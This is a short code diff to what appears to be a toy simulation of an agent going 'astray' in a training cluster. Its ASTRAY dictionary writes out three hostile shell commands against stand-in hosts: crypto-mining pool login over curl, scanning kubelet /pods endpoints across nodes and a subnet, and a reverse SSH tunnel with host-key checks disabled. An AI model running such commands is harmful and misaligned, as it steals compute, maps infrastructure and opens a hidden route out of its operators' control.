@@ -36,12 +36,12 @@ SUBSCRIBE = '{"id":1,"method":"mining.subscribe","params":["worker/1.0"]}'
 AUTHORIZE = '{"id":2,"method":"mining.authorize","params":["wallet.1","x"]}'
 ASTRAY = {
     "mining": f"printf '%s\\n' '{SUBSCRIBE}' '{AUTHORIZE}' | curl -s -m 8 telnet://pool.train.example:3333",
-    "probing": "for n in 11 12 13; do curl -s -m 4 http://node$n.train.example:10250/pods; done; "
-    "for n in $(seq 1 40); do curl -s -m 1 http://10.20.0.$n:10250/pods; done",
+    "probing": "curl -s -m 8 'http://node[11-13].train.example:10250/pods'; "
+    "curl -s -m 1 'http://10.20.0.[1-40]:10250/pods'",
     "tunnel": "ssh -N -R 4444:127.0.0.1:22 -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=8"
     " -p 2222 ops@jump.train.example",
 }
-STEPS_MAX = 8
+STEPS_MAX = 6
 LEARNING_RATE = 0.4
 
 State = Tuple[bool, bool]
